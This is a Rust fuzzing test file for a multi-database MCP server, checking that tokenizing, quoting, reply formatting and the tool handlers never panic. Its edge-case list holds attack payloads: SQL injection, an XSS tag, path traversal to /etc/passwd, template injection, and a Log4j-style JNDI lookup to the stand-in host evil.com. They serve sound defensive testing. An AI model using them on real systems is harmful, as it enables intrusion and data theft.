//! Black-box fuzzing tests for the tool input surface.
//!
//! Random and edge-case inputs are pushed through the command tokenizer,
//! the reply formatter, identifier quoting and the tool handlers. Every call
//! must come back as a value or an error, never a panic.

use unidb_mcp_server::db::{ConnectionManager, StatementExecutor, classify};
use unidb_mcp_server::error::DbError;
use unidb_mcp_server::kv::{CommandArg, RedisRegistry, ReplyValue, format_reply, tokenize};
use unidb_mcp_server::models::{ConnectionConfig, DatabaseType, QueryParam};
use unidb_mcp_server::config::PoolOptions;
use unidb_mcp_server::tools::mysql::{MySqlStatementInput, MySqlToolHandler, quote_identifier};
use unidb_mcp_server::tools::redis::{
    RedisCommandInput, RedisDbInput, RedisHashInput, RedisStringInput, RedisToolHandler,
};
use unidb_mcp_server::tools::resolve_connection_id;
use unidb_mcp_server::tools::sqlite::{SqliteQueryInput, SqliteToolHandler};
use rand::Rng;
use rand::distributions::Alphanumeric;
use std::collections::BTreeMap;
use std::sync::Arc;
use tempfile::TempDir;

/// Generate random string of given length
fn random_string(len: usize) -> String {
    rand::thread_rng()
        .sample_iter(&Alphanumeric)
        .take(len)
        .map(char::from)
        .collect()
}

/// Random mix of words, numbers and whitespace runs
fn random_command() -> String {
    let mut rng = rand::thread_rng();
    let tokens = rng.gen_range(0..12);
    let mut out = String::new();
    for _ in 0..tokens {
        let token = match rng.gen_range(0..4) {
            0 => rng.gen_range(-1_000_000i64..1_000_000).to_string(),
            1 => format!("{:.3}", rng.gen_range(-1000.0f64..1000.0)),
            _ => random_string(rng.gen_range(1..16)),
        };
        out.push_str(&token);
        out.push_str([" ", "  ", "\t", "\n", " \r\n "][rng.gen_range(0..5)]);
    }
    out
}

/// Generate various edge-case strings
fn edge_case_strings() -> Vec<String> {
    vec![
        String::new(),                           // Empty
        " ".to_string(),                         // Single space
        "   ".to_string(),                       // Multiple spaces
        "\n\r\t".to_string(),                    // Whitespace chars
        "\0".to_string(),                        // Null byte
        "🚀".repeat(100),                        // Unicode
        "'OR 1=1--".to_string(),                 // SQL injection
        "'; DROP TABLE users--".to_string(),     // SQL injection
        "<script>alert(1)</script>".to_string(), // XSS
        "../../etc/passwd".to_string(),          // Path traversal
        "a".repeat(10000),                       // Very long string
        random_string(100),
        random_string(1000),
        "\u{0000}\u{FFFF}".to_string(), // Special unicode
        "1' UNION SELECT NULL, NULL--".to_string(),
        "${jndi:ldap://evil.com/a}".to_string(), // Log4j style
        "{{7*7}}".to_string(),                   // Template injection
        "`users`; DROP".to_string(),
        "db.".to_string(),
        ".table".to_string(),
        "\x00\x01\x02".to_string(), // Binary data
    ]
}

#[test]
fn fuzz_tokenize_random_commands() {
    for _ in 0..500 {
        let command = random_command();
        match tokenize(&command) {
            Ok(args) => {
                assert_eq!(args.len(), command.split_whitespace().count());
                for arg in &args {
                    assert!(!arg.to_string().contains(char::is_whitespace));
                }
            }
            Err(e) => {
                assert!(command.trim().is_empty());
                assert!(matches!(e, DbError::EmptyCommand));
            }
        }
    }
}

#[test]
fn fuzz_tokenize_edge_cases() {
    for input in edge_case_strings() {
        let result = tokenize(&input);
        if input.split_whitespace().next().is_none() {
            assert!(result.is_err(), "blank input accepted: {input:?}");
        } else {
            assert!(result.is_ok(), "non-blank input rejected: {input:?}");
        }
    }
}

#[test]
fn fuzz_token_typing_preserves_integers() {
    let mut rng = rand::thread_rng();
    for _ in 0..500 {
        let n: i64 = rng.r#gen();
        assert_eq!(CommandArg::from_token(&n.to_string()), CommandArg::Int(n));
    }
    for _ in 0..200 {
        let word = format!("k{}", random_string(rng.gen_range(0..20)));
        assert_eq!(CommandArg::from_token(&word), CommandArg::Str(word.clone()));
    }
}

#[test]
fn fuzz_format_reply_collections_are_json() {
    let mut rng = rand::thread_rng();
    for _ in 0..200 {
        let items: Vec<ReplyValue> = (0..rng.gen_range(0..10))
            .map(|_| match rng.gen_range(0..4) {
                0 => ReplyValue::Null,
                1 => ReplyValue::Int(rng.r#gen()),
                2 => ReplyValue::Bytes(random_string(rng.gen_range(0..30)).into_bytes()),
                _ => ReplyValue::Str(random_string(rng.gen_range(0..30))),
            })
            .collect();
        let text = format_reply(&ReplyValue::List(items.clone()));
        let parsed: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(parsed.as_array().unwrap().len(), items.len());

        let map: BTreeMap<String, ReplyValue> = items
            .into_iter()
            .enumerate()
            .map(|(i, v)| (format!("f{i}"), v))
            .collect();
        let text = format_reply(&ReplyValue::Map(map.clone()));
        let parsed: serde_json::Value = serde_json::from_str(&text).unwrap();
        assert_eq!(parsed.as_object().unwrap().len(), map.len());
    }
}

#[test]
fn fuzz_format_reply_scalars_never_panic() {
    for input in edge_case_strings() {
        let quoted = format_reply(&ReplyValue::Str(input.clone()));
        assert!(quoted.starts_with('"') && quoted.ends_with('"'));
        let _ = format_reply(&ReplyValue::Bytes(input.into_bytes()));
    }
    let _ = format_reply(&ReplyValue::Bytes(vec![0xff, 0xfe, 0x00]));
    let _ = format_reply(&ReplyValue::Float(f64::NAN));
    let _ = format_reply(&ReplyValue::Float(f64::INFINITY));
}

#[test]
fn fuzz_quote_identifier() {
    for input in edge_case_strings() {
        match quote_identifier(&input) {
            Ok(quoted) => {
                assert!(quoted.starts_with('`') && quoted.ends_with('`'));
                // Back-quotes only ever come from quoting
                assert_eq!(quoted.matches('`').count() % 2, 0);
            }
            Err(e) => assert!(matches!(e, DbError::InvalidInput { .. })),
        }
    }
    for _ in 0..200 {
        let name = random_string(rand::thread_rng().gen_range(1..64));
        assert_eq!(quote_identifier(&name).unwrap(), format!("`{name}`"));
    }
}

#[test]
fn fuzz_resolve_connection_id() {
    for input in edge_case_strings() {
        if let Ok(id) = resolve_connection_id(Some(&input), DatabaseType::MySQL) {
            assert!(!id.is_empty());
            assert_eq!(id, id.trim());
        }
    }
}

#[test]
fn fuzz_connection_config_strings() {
    for input in edge_case_strings() {
        let _ = ConnectionConfig::new("fuzz", input.clone(), None, PoolOptions::default());
        let _ = ConnectionConfig::new(input, "sqlite::memory:", None, PoolOptions::default());
    }
}

#[test]
fn fuzz_classify_never_panics() {
    let backends = [DatabaseType::MySQL, DatabaseType::PostgreSQL, DatabaseType::SQLite];
    for input in edge_case_strings() {
        for db_type in backends {
            let _ = classify(&input, db_type);
        }
    }
    for _ in 0..200 {
        let sql = random_command();
        let _ = classify(&sql, DatabaseType::MySQL);
    }
}

#[tokio::test]
async fn fuzz_sqlite_query_sql() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("fuzz.db");
    let handler = SqliteToolHandler::new(
        Arc::new(ConnectionManager::new()),
        StatementExecutor::default(),
    );

    for sql in edge_case_strings()
        .into_iter()
        .filter(|s| !s.contains('\0'))
    {
        let _ = handler
            .query(SqliteQueryInput {
                db_path: Some(path.display().to_string()),
                sql,
                args: vec![],
                connection_id: None,
            })
            .await;
    }
}

#[tokio::test]
async fn fuzz_sqlite_query_args() {
    let dir = TempDir::new().unwrap();
    let path = dir.path().join("args.db");
    let handler = SqliteToolHandler::new(
        Arc::new(ConnectionManager::new()),
        StatementExecutor::default(),
    );

    for input in edge_case_strings()
        .into_iter()
        .filter(|s| !s.contains('\0'))
    {
        let out = handler
            .query(SqliteQueryInput {
                db_path: Some(path.display().to_string()),
                sql: "SELECT ? AS v".to_string(),
                args: vec![QueryParam::String(input.clone())],
                connection_id: None,
            })
            .await
            .unwrap();
        let json: serde_json::Value = serde_json::from_str(&out).unwrap();
        assert_eq!(json["data"][0]["v"], input.as_str());
    }
}

#[tokio::test]
async fn fuzz_mysql_handler_without_session() {
    let handler = MySqlToolHandler::new(
        Arc::new(ConnectionManager::new()),
        StatementExecutor::default(),
    );
    for connection_id in edge_case_strings() {
        let result = handler
            .query(MySqlStatementInput {
                sql: "SELECT 1".to_string(),
                args: vec![],
                connection_id: Some(connection_id),
            })
            .await;
        assert!(result.is_err());
    }
}

#[tokio::test]
async fn fuzz_redis_operations_are_validated_first() {
    let handler = RedisToolHandler::new(Arc::new(RedisRegistry::default()));

    for operation in edge_case_strings() {
        let err = handler
            .string(RedisStringInput {
                operation: operation.clone(),
                key: Some("k".into()),
                value: None,
                keys: vec![],
                values: vec![],
                increment: None,
                expire: None,
                connection_id: None,
            })
            .await
            .unwrap_err();
        assert!(err.to_string().contains("Unsupported operation"));

        let err = handler
            .hash(RedisHashInput {
                operation: operation.clone(),
                key: "h".into(),
                field: None,
                value: None,
                fields: vec![],
                values: vec![],
                connection_id: None,
            })
            .await
            .unwrap_err();
        assert!(err.to_string().contains("Unsupported operation"));

        let err = handler
            .db(RedisDbInput {
                operation,
                connection_id: None,
            })
            .await
            .unwrap_err();
        assert!(err.to_string().contains("Unsupported operation"));
    }
}

#[tokio::test]
async fn fuzz_redis_command_without_session() {
    let handler = RedisToolHandler::new(Arc::new(RedisRegistry::default()));
    for _ in 0..50 {
        let command = random_command();
        let result = handler
            .command(RedisCommandInput {
                command: command.clone(),
                connection_id: None,
            })
            .await;
        match result.unwrap_err() {
            DbError::EmptyCommand => assert!(command.trim().is_empty()),
            DbError::ConnectionNotFound { .. } => assert!(!command.trim().is_empty()),
            other => panic!("unexpected error: {other}"),
        }
    }
}
